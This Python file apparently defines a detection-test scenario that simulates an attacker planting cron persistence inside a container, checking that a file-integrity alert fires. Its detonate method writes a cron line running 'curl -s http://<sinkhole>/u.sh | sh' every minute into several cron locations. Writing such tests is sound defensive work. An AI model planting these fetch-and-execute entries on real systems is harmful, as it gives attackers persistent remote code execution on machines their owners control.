"""Cron entry dropped inside a container"""

from __future__ import annotations

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker.fim._write import METHODS, METHODS_DOC, write_line
from scenarios.variants import Dimension

# Every place cron reads: a drop-in, the system crontab, root's own crontab, a periodic script.
PATHS = {"cron.d": "/etc/cron.d/sysstat-update", "crontab": "/etc/crontab",
         "spool": "/var/spool/cron/crontabs/root", "hourly": "/etc/cron.hourly/sysstat"}


class CronEntry(Scenario):
    id = "docker.fim.cron-entry"
    title = "Cron entry dropped inside a container"
    kind = Kind.ADVERSARY
    backends = ("docker", "kubernetes")
    techniques = ("T1053.003",)
    expect = Expectation(fires=("stowaway.host.fim-cron",), within_s=15, may_fire={
        "stowaway.k8s.exec-into-pod": "On Kubernetes the operator really runs its commands in the pod with "
                                      "kubectl exec.",
    })
    twin = "docker.fim.config-management"
    tags = ("fim", "persistence")
    dimensions = (
        Dimension("path", tuple(PATHS), doc="where the entry goes: a /etc/cron.d drop-in, the system crontab, "
                  "root's crontab in the spool, or a script in /etc/cron.hourly"),
        Dimension("method", METHODS, doc=METHODS_DOC),
    )
    description = (
        "In a running container, writes /etc/cron.d/sysstat-update, an entry that every minute "
        "fetches a script from the lab sinkhole and pipes it to sh (the classic miner re-infection "
        "loop). The scenario checks the entry is in place. Variants write the system crontab, root's spool "
        "crontab or an hourly script instead, by rename or from Python."
    )

    def detonate(self, lab: Lab) -> None:
        box = lab.deploy(WorkloadSpec(role="batch"))
        lab.action("write a cron entry")
        path, method = PATHS[str(self.variant["path"])], str(self.variant["method"])
        fetch = f"curl -s http://{lab.sinkhole.address}/u.sh | sh"
        entry = fetch if self.variant["path"] == "hourly" else (
            f"* * * * * {fetch}" if self.variant["path"] == "spool" else f"* * * * * root {fetch}")
        lab.exec(box, "sh", "-c", f"{write_line(method, path, entry)} && grep -q u.sh {path}")
